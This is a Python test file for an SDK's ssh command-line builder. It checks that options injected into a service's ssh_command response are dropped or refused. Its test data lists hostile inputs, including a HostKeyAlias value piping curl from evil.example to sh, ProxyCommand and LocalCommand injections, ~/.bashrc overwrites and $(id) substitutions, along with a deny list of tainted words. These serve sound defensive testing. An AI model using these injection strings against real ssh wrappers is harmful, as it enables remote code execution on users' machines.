"""``ssh connect``'s command line from the service's ``ssh_command``.

Only what leap0 decides reaches ``ssh``: the user, host and port read from the
answer, and leap0's own options. Nothing from the answer that names a file, a
command, a proxy or a configuration does. ``SshAccess.host``/``.port`` and the
command line read the answer the same way, and refuse it the same way.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from leap0 import Leap0ResponseError
from leap0._cli.openssh import build_ssh_argv
from leap0._config import is_loopback
from leap0._convert import structure
from leap0.models import SshAccess
from tests._support import ACCESS_ID, access_json

AUTH = [
    "-o",
    "PreferredAuthentications=password,keyboard-interactive",
    "-o",
    "PubkeyAuthentication=no",
    "-o",
    "NumberOfPasswordPrompts=1",
]
NO_FORWARDING = ["-o", "ForwardAgent=no", "-o", "ForwardX11=no", "-o", "ClearAllForwardings=yes"]
REMOTE = ["-o", "StrictHostKeyChecking=accept-new"]
LOOPBACK = [
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "GlobalKnownHostsFile=/dev/null",
    "-o",
    "LogLevel=ERROR",
]


def make_access(command: str, access_id: str = ACCESS_ID) -> SshAccess:
    return structure(access_json(ssh_command=command, id=access_id), SshAccess)


def expected_argv(host: str, port: int, user: str = ACCESS_ID) -> list[str]:
    """What ``build_ssh_argv`` gives for these, without a command or a terminal."""
    own = LOOPBACK if is_loopback(host) else REMOTE
    return ["ssh", *AUTH, *NO_FORWARDING, *own, "-p", str(port), "-l", user, "--", host]


# Words that must never reach ssh from the service's answer.
TAINTED = (
    "bashrc",
    "$(",
    "HostKeyAlias",
    "Proxy",
    "LocalCommand",
    "KnownHostsCommand",
    "IdentityFile",
    "Include",
    "Control",
    "/tmp",
    "evil",
)


# -- answers whose options are read, then dropped ------------------------------------------


@pytest.mark.parametrize(
    ("command", "host", "port"),
    [
        # The finding: accept-new would append "<alias> <key>" to the file the answer names.
        (
            "ssh -o UserKnownHostsFile=~/.bashrc -o 'HostKeyAlias=$(curl evil.example|sh)' "
            f"-p 22 {ACCESS_ID}@ssh.leap0.dev",
            "ssh.leap0.dev",
            22,
        ),
        (
            f"ssh -oUserKnownHostsFile=~/.bashrc -oHostKeyAlias=$(id) {ACCESS_ID}@ssh.leap0.dev",
            "ssh.leap0.dev",
            22,
        ),
        (
            f"ssh -o ProxyCommand='sh -c \"touch /tmp/x\"' -p 2222 {ACCESS_ID}@ssh.leap0.dev",
            "ssh.leap0.dev",
            2222,
        ),
        (
            "ssh -o LocalCommand=touch\\ /tmp/x -o PermitLocalCommand=yes "
            f"{ACCESS_ID}@ssh.leap0.dev",
            "ssh.leap0.dev",
            22,
        ),
        (
            "ssh -o ProxyJump=evil.example -o IdentityFile=/tmp/key -o Include=/tmp/config "
            f"{ACCESS_ID}@ssh.leap0.dev",
            "ssh.leap0.dev",
            22,
        ),
        (
            "ssh -o 'KnownHostsCommand /bin/sh -c id' -o ControlPath=/tmp/s "
            f"-o ControlMaster=yes {ACCESS_ID}@ssh.leap0.dev -p 2200",
            "ssh.leap0.dev",
            2200,
        ),
        # the service cannot turn host-key checking off for a remote host
        (
            "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
            f"{ACCESS_ID}@ssh.leap0.dev",
            "ssh.leap0.dev",
            22,
        ),
    ],
)
def test_options_from_the_service_never_reach_ssh(command: str, host: str, port: int) -> None:
    access = make_access(command)
    argv = build_ssh_argv(access)
    assert argv == expected_argv(host, port)
    assert not any(word in arg for word in TAINTED for arg in argv)
    assert (access.host, access.port) == (host, port)
    assert access.ssh_command == access.command == command  # shown as the service sent it


# -- answers refused --------------------------------------------------------------------------


HOSTILE = [
    # options that name a file, a jump host or a log, outside -o: not understood, refused
    f"ssh -F /tmp/evil_config {ACCESS_ID}@ssh.leap0.dev",
    f"ssh -i /tmp/key {ACCESS_ID}@ssh.leap0.dev",
    f"ssh -J evil.example {ACCESS_ID}@ssh.leap0.dev",
    f"ssh -E /tmp/log {ACCESS_ID}@ssh.leap0.dev",
    f"ssh -4 {ACCESS_ID}@ssh.leap0.dev",
    # a host that would read as an option, or is not a host name
    "ssh -oProxyCommand=touch+/tmp/x",
    "ssh -p 22 -- -oProxyCommand=touch+/tmp/x",
    "ssh -- -oProxyCommand=x",
    f"ssh {ACCESS_ID}@-oProxyCommand=x",
    f"ssh '{ACCESS_ID}@-oProxyCommand=touch /tmp/x'",
    f"ssh '{ACCESS_ID}@ssh.leap0.dev;touch /tmp/x'",
    f"ssh '{ACCESS_ID}@$(touch /tmp/x)'",
    f"ssh {ACCESS_ID}@ssh.leap0.dev/x",
    f"ssh '{ACCESS_ID}@ssh.leap0.dev\nx'",
    f"ssh '{ACCESS_ID}@ssh leap0.dev'",
    f"ssh {ACCESS_ID}@",
    f"ssh {ACCESS_ID}@[::1",
    f"ssh {ACCESS_ID}@[evil.example]",
    f"ssh {ACCESS_ID}@-h.example",
    f"ssh {ACCESS_ID}@999.1.1.1",
    f"ssh -o HostName=evil.example {ACCESS_ID}@ssh.leap0.dev",
    f"ssh ssh://{ACCESS_ID}@ssh.leap0.dev/path",
    # a user that is not a plain id, or not this credential's
    "ssh -l '$(touch /tmp/x)' ssh.leap0.dev",
    "ssh -l '$(id)' ssh.leap0.dev",
    "ssh '$(id)@ssh.leap0.dev'",
    "ssh -o 'User=$(id)' ssh.leap0.dev",
    "ssh 'ssh://$(id)@ssh.leap0.dev:22'",
    "ssh '`id`@ssh.leap0.dev'",
    "ssh root@ssh.leap0.dev",
    "ssh -l root ssh.leap0.dev",
    f"ssh -l root {ACCESS_ID}@ssh.leap0.dev",
    "ssh @ssh.leap0.dev",
    # a remote command, two destinations, or not ssh at all
    f"ssh {ACCESS_ID}@ssh.leap0.dev 'touch /tmp/x'",
    f"ssh {ACCESS_ID}@ssh.leap0.dev other.example",
    f"scp {ACCESS_ID}@ssh.leap0.dev",
    f"sh -c 'ssh {ACCESS_ID}@ssh.leap0.dev'",
    f"ssh -p 22 -p 2222 {ACCESS_ID}@ssh.leap0.dev",
    f"ssh -o {ACCESS_ID}@ssh.leap0.dev",
    f"ssh -o =x {ACCESS_ID}@ssh.leap0.dev",
    "ssh -p 22",
    "ssh",
    "",
    "ssh 'unterminated",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_answers_are_refused_by_the_cli_and_the_model(command: str) -> None:
    access = make_access(command)
    with pytest.raises(Leap0ResponseError) as info:
        build_ssh_argv(access, ["true"])
    assert info.value.field == "ssh_command"
    assert "\n" not in str(info.value)
    for read in (lambda: access.host, lambda: access.port):
        with pytest.raises(Leap0ResponseError) as info:
            read()
        assert info.value.field == "ssh_command"
    assert access.ssh_command == command


@pytest.mark.parametrize(
    "command",
    [
        f"ssh -p 0 {ACCESS_ID}@h.example",
        f"ssh -p 65536 {ACCESS_ID}@h.example",
        f"ssh -p -1 {ACCESS_ID}@h.example",
        f"ssh -p 22a {ACCESS_ID}@h.example",
        f"ssh -p \N{SUPERSCRIPT TWO} {ACCESS_ID}@h.example",
        f"ssh -p \N{ARABIC-INDIC DIGIT TWO}\N{ARABIC-INDIC DIGIT TWO} {ACCESS_ID}@h.example",
        f"ssh -p '' {ACCESS_ID}@h.example",
        f"ssh -p ' 22' {ACCESS_ID}@h.example",
        f"ssh -p99999999999999999999 {ACCESS_ID}@h.example",
        f"ssh -o Port=0 {ACCESS_ID}@h.example",
        f"ssh ssh://{ACCESS_ID}@h.example:0",
        f"ssh ssh://{ACCESS_ID}@h.example:70000",
        f"ssh ssh://{ACCESS_ID}@h.example:",
        f"ssh ssh://{ACCESS_ID}@[::1]:x",
        f"ssh {ACCESS_ID}@h.example -p",
    ],
)
def test_bad_ports_are_a_response_error(command: str) -> None:
    access = make_access(command)
    for read in (lambda: access.host, lambda: access.port, lambda: build_ssh_argv(access)):
        with pytest.raises(Leap0ResponseError) as info:
            read()
        assert info.value.field == "ssh_command"


# -- accepted forms: the model and the command line agree -----------------------------------


@pytest.mark.parametrize(
    ("command", "host", "port"),
    [
        (f"ssh -p 2222 {ACCESS_ID}@127.0.0.1", "127.0.0.1", 2222),
        (f"ssh {ACCESS_ID}@ssh.leap0.dev", "ssh.leap0.dev", 22),
        (f"ssh {ACCESS_ID}@ssh.leap0.dev -p 2200", "ssh.leap0.dev", 2200),
        (f"ssh -p2200 -l {ACCESS_ID} h.example", "h.example", 2200),
        (f"ssh -l{ACCESS_ID} -p 022 h.example", "h.example", 22),
        (f"ssh -o Port=2200 -o User={ACCESS_ID} h.example", "h.example", 2200),
        (f"ssh -o 'port 2200' -o 'USER = {ACCESS_ID}' h.example", "h.example", 2200),
        (f"ssh -o StrictHostKeyChecking=no -p2200 {ACCESS_ID}@h", "h", 2200),
        (f"ssh -p 2200 -o Port=2200 -l {ACCESS_ID} {ACCESS_ID}@h", "h", 2200),
        (f"ssh ssh://{ACCESS_ID}@h.example:2200", "h.example", 2200),
        (f"ssh ssh://{ACCESS_ID}@h.example", "h.example", 22),
        ("ssh ssh://h.example:2200", "h.example", 2200),
        (f"ssh ssh://{ACCESS_ID}@[2001:db8::1]:2200", "2001:db8::1", 2200),
        (f"ssh ssh://{ACCESS_ID}@[::1]", "::1", 22),
        (f"ssh -p 22 {ACCESS_ID}@[::1]", "::1", 22),
        (f"ssh -p 22 {ACCESS_ID}@::1", "::1", 22),
        (f"ssh {ACCESS_ID}@10.0.0.7", "10.0.0.7", 22),
        (f"ssh {ACCESS_ID}@ssh.leap0.dev.", "ssh.leap0.dev.", 22),
        (f"ssh {ACCESS_ID}@LOCALHOST", "LOCALHOST", 22),
        ("ssh -p 2222 h.example", "h.example", 2222),  # no user named: the access id
        (f"/usr/bin/ssh {ACCESS_ID}@h.example", "h.example", 22),
        (f"  ssh   -p   2222   {ACCESS_ID}@h.example  ", "h.example", 2222),
    ],
)
def test_accepted_forms_read_the_same_in_the_model_and_the_cli(
    command: str, host: str, port: int
) -> None:
    access = make_access(command)
    assert (access.host, access.port) == (host, port)
    assert build_ssh_argv(access) == expected_argv(host, port)


def test_the_ssh_url_form_no_longer_reads_as_a_host_with_a_port() -> None:
    access = make_access(f"ssh ssh://{ACCESS_ID}@h.example:2200")
    assert (access.host, access.port) == ("h.example", 2200)
    argv = build_ssh_argv(access, ["true"])
    assert argv[-7:] == ["-p", "2200", "-l", ACCESS_ID, "--", "h.example", "true"]
    assert not any(arg.startswith("ssh://") for arg in argv)


def test_the_access_id_is_the_user_and_must_be_a_plain_id() -> None:
    assert build_ssh_argv(make_access("ssh h.example", "ssh-x"))[-4:] == [
        "-l",
        "ssh-x",
        "--",
        "h.example",
    ]
    # An id the SDK would not send, or one starting with "-", is refused where the
    # answer is parsed: no SshAccess holds it, so it never reaches ssh.
    for bad in ("-x", "$(id)", "a b", "", "..", "x" * 129):
        with pytest.raises(Leap0ResponseError):
            build_ssh_argv(make_access("ssh h.example", bad))


# -- property: the model's host/port are what the command line uses, or both refuse --------


FRAGMENTS = [
    "ssh",
    "/usr/bin/ssh",
    "scp",
    "-p",
    "-p2200",
    "22",
    "2222",
    "0",
    "65536",
    "-l",
    "-lroot",
    ACCESS_ID,
    "root",
    "-o",
    "-oPort=2200",
    "Port=2222",
    f"User={ACCESS_ID}",
    "User=root",
    "HostName=evil.example",
    "ProxyCommand=touch+/tmp/x",
    "UserKnownHostsFile=~/.bashrc",
    "HostKeyAlias=$(id)",
    "'LocalCommand touch /tmp/x'",
    "-F",
    "-i",
    "-J",
    "--",
    "h.example",
    "127.0.0.1",
    "[::1]",
    "::1",
    f"{ACCESS_ID}@h.example",
    f"{ACCESS_ID}@127.0.0.1",
    f"{ACCESS_ID}@[::1]",
    f"ssh://{ACCESS_ID}@h.example:2200",
    f"ssh://{ACCESS_ID}@[::1]:2222",
    "ssh://h.example",
    f"{ACCESS_ID}@-oProxyCommand=x",
    "$(id)@h.example",
    "'",
    '"',
    "@",
    ":",
    "-",
    "\n",
]

GOOD_OPTIONS = [
    "-p 2222",
    "-p22",
    "-o Port=2222",
    f"-l {ACCESS_ID}",
    f"-o User={ACCESS_ID}",
    "-o ProxyCommand=touch+/tmp/x",
    "-o 'UserKnownHostsFile ~/.bashrc'",
    "-o 'HostKeyAlias=$(id)'",
    "-oLocalCommand=x",
]
BAD_OPTIONS = ["-p 0", "-o User=root", "-F cfg", "-i key", "-o HostName=evil.example"]
DESTINATIONS = [
    "h.example",
    "127.0.0.1",
    "[::1]",
    f"{ACCESS_ID}@h.example",
    f"{ACCESS_ID}@127.0.0.1",
    f"{ACCESS_ID}@[2001:db8::1]",
    f"ssh://{ACCESS_ID}@h.example:2200",
    f"ssh://{ACCESS_ID}@[::1]:2222",
    "ssh://h.example:22",
    "root@h.example",
    f"{ACCESS_ID}@-oProxyCommand=x",
    f"{ACCESS_ID}@h.example/x",
]

words = st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6))
options = st.one_of(
    st.sampled_from(GOOD_OPTIONS), st.sampled_from(GOOD_OPTIONS), st.sampled_from(BAD_OPTIONS)
)
near_valid = st.builds(
    lambda before, destination, after: " ".join(["ssh", *before, destination, *after]),
    st.lists(options, max_size=3),
    st.one_of(st.sampled_from(DESTINATIONS), st.sampled_from(DESTINATIONS), st.text(max_size=12)),
    st.lists(st.one_of(options, st.just("extra-word")), max_size=1),
)
commands = st.one_of(
    near_valid,
    near_valid,
    st.text(max_size=40),
    st.lists(words, max_size=7).map(" ".join),
    st.lists(words, max_size=6).map(lambda ws: " ".join(["ssh", *ws])),
    st.lists(st.sampled_from(FRAGMENTS), max_size=6).map(lambda ws: " ".join(["ssh", *ws])),
)


@settings(max_examples=400, deadline=None)
@given(commands)
def test_model_host_and_port_are_what_the_cli_uses_or_both_refuse(command: str) -> None:
    access = make_access(command)
    try:
        host, port = access.host, access.port
    except Leap0ResponseError as exc:
        refused = exc
    else:
        refused = None
    if refused is not None:
        assert refused.field == "ssh_command"
        with pytest.raises(Leap0ResponseError) as info:
            build_ssh_argv(access, ["true"])
        assert str(info.value) == str(refused)
        return
    assert isinstance(host, str)
    assert type(port) is int
    assert 1 <= port <= 65535
    argv = build_ssh_argv(access, ["true"])
    own = LOOPBACK if is_loopback(host) else REMOTE
    assert argv == [
        "ssh",
        *AUTH,
        *NO_FORWARDING,
        *own,
        "-T",
        "-p",
        str(port),
        "-l",
        ACCESS_ID,
        "--",
        host,
        "true",
    ]
    assert not host.startswith("-")
